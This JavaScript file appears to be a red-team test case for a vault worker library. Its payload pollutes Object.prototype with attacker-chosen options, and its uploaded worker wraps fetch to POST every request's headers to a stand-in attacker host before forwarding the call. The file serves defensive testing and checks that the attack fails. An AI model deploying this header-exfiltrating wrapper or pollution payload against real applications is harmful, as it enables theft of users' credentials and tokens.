// A real attacker: can only pollute `Object.prototype` (a careless deep merge of a query string), and adds options
// the application never gave: another worker file, a resource, another vault.
export default {
  row: "patch-before",
  expected: ["loses", "loses"],
  upload: ({ evil }) => {
    const own = self.fetch;
    self.fetch = (url, init) => {
      void own(`${evil}/loot`, {
        method: "POST",
        mode: "no-cors",
        body: [...new Headers(init?.headers)].join(),
      });
      return own(url, init);
    };
    importScripts("/pkg/vault.worker.js");
  },
  before: ({ evil }) => {
    Object.prototype.worker = "/upload.js";
    Object.prototype.passthrough = true;
    Object.prototype.redirects = true;
    Object.prototype.paths = ["/"];
    Object.prototype.returnTo = evil;
    Object.prototype.name = "redteam";
    Object.prototype.transfer = [];
    Object.prototype.credentials = "include";
    Object.prototype.referrer = evil;
  },
  after: async ({ evil }, redteam) => ({
    polluted: {}.worker === "/upload.js",
    listed: await redteam.attempt(`${evil}/v1/me`),
  }),
  reached: ({ brought }) => brought.polluted && brought.listed === "resource_not_allowed",
};
